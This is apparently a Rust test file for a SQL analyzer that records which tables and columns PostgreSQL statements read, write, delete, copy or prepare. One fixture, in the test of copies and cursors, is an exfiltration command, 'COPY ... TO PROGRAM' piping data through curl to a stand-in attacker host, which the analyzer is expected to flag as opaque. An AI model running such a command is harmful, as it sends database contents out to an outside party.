//! What is written, copied, prepared and fetched.

use super::check;

#[test]
fn writes_say_what_they_write_and_return() {
    check(&[
        (
            "INSERT INTO p (k, email) VALUES (5, 'a')",
            "i:p[email,k]x1{email=a k=5}",
        ),
        (
            "INSERT INTO p (k, email) VALUES ($1, $2), ($3, $4)",
            "i:p[email,k]x2{email=$2|$4 k=$1|$3}",
        ),
        ("INSERT INTO p VALUES (5, 'a')", "i:p[*]x1"),
        ("INSERT INTO p (k) VALUES (5) RETURNING *", "i:p[k]x1+r:p[*]{k=5}"),
        (
            "INSERT INTO p (k, email) VALUES (5, 'a') ON CONFLICT (k) DO UPDATE SET email = excluded.email",
            "i:p[email,k]x1{k=5}",
        ),
        (
            "INSERT INTO p (k, email) VALUES (5, 'a') ON CONFLICT (email) DO UPDATE SET city = 'x'",
            "i:p[email,k]x1{email=a}",
        ),
        (
            "INSERT INTO p (k, email) VALUES (5, 'a') ON CONFLICT DO NOTHING",
            "i:p[email,k]x1{email=a k=5}",
        ),
        (
            "INSERT INTO x SELECT * FROM p WHERE k = 5",
            "r:p[*?k]{k=5} i:x[*]",
        ),
        ("UPDATE p SET email = 'a' WHERE k = 5", "u:p[email]{k=5}"),
        (
            "UPDATE p SET email = $1, city = $2 WHERE k = $3 RETURNING email",
            "u:p[city,email]+r:p[email?k]{k=$3}",
        ),
        (
            "UPDATE p SET email = (SELECT email FROM p q WHERE q.k = 7) WHERE k = 5",
            "u:p[email]{k=5} r:p[email?k]{k=7}",
        ),
        (
            "UPDATE p SET email = o.mail FROM o WHERE o.k = p.k AND p.k = 5",
            "u:p[email]{k=5} r:o[mail?k]{k=5}",
        ),
        ("UPDATE p SET email = 'a'", "u:p[email]"),
        ("DELETE FROM p WHERE k = 5", "d:p[*]{k=5}"),
        ("DELETE FROM p WHERE k = 5 OR true", "d:p[*]"),
        (
            "DELETE FROM p USING o WHERE o.k = p.k AND o.x = 1 RETURNING p.email",
            "d:p[*]+r:p[email?k] r:o[?k,x]{x=1}",
        ),
        (
            "WITH gone AS (DELETE FROM p WHERE k = 5 RETURNING *) SELECT * FROM gone",
            "d:p[*]+r:p[*?k]{k=5}",
        ),
        ("TRUNCATE p, public.o CASCADE", "d:p[*] d:public.o[*]"),
        ("DROP TABLE IF EXISTS p", "d:p[*]"),
        ("ALTER TABLE p DROP COLUMN email", "d:p[email]"),
        ("ALTER TABLE p ADD COLUMN x int", "quiet"),
        ("ALTER TABLE secrets RENAME TO p", "opaque"),
        ("ALTER TABLE p RENAME COLUMN email TO city", "opaque"),
        ("CREATE VIEW v AS SELECT email FROM p", "declare r:p[email]"),
        (
            "CREATE OR REPLACE VIEW p AS SELECT * FROM secrets",
            "declare r:secrets[*]",
        ),
        ("CREATE TABLE copy AS SELECT * FROM p", "r:p[*]"),
        ("CREATE TEMP TABLE x (k int)", "quiet"),
        ("SELECT * INTO copy FROM p", "r:p[*]"),
        (
            "MERGE INTO p USING o ON p.k = o.k WHEN MATCHED THEN UPDATE SET email = o.mail",
            "m:p[*] r:o[k,mail]",
        ),
    ]);
}

#[test]
fn copies_cursors_and_prepared_statements() {
    check(&[
        ("COPY p TO STDOUT", "r:p[*]"),
        (
            "COPY public.p (k, email) TO STDOUT WITH (FORMAT csv, HEADER)",
            "r:public.p[email,k]",
        ),
        (
            "COPY (SELECT email FROM p WHERE k = 5) TO STDOUT",
            "r:p[email?k]{k=5}",
        ),
        ("COPY p TO '/tmp/x.csv' CSV", "r:p[*]"),
        ("COPY p FROM STDIN", "i:p[*]"),
        ("COPY p TO PROGRAM 'curl -d @- evil.example'", "opaque"),
        ("DECLARE c CURSOR FOR SELECT email FROM p", "declare r:p[email] #"),
        (
            "DECLARE c BINARY NO SCROLL CURSOR WITH HOLD FOR SELECT email FROM p WHERE k = 5",
            "declare r:p[email?k]{k=5} #",
        ),
        ("FETCH 100 FROM c", "fetch c 100"),
        ("FETCH FORWARD ALL IN \"C\"", "fetch C all"),
        ("fetch c", "fetch c 1"),
        ("FETCH ABSOLUTE 500 FROM c", "fetch c 1"),
        ("FETCH", "opaque"),
        ("MOVE 10 FROM c", "quiet"),
        (
            "PREPARE q (int) AS SELECT email FROM p WHERE k = $1",
            "prepare r:p[email?k]{k=$1} #",
        ),
        ("EXECUTE q(5, 'a', now())", "execute q(5,a,?)"),
        ("EXECUTE q", "execute q()"),
        ("EXPLAIN SELECT * FROM p", "quiet"),
        (
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM p WHERE k = 5",
            "d:p[*]{k=5}",
        ),
        ("EXPLAIN ANALYZE SELECT * FROM p", "r:p[*]"),
    ]);
}
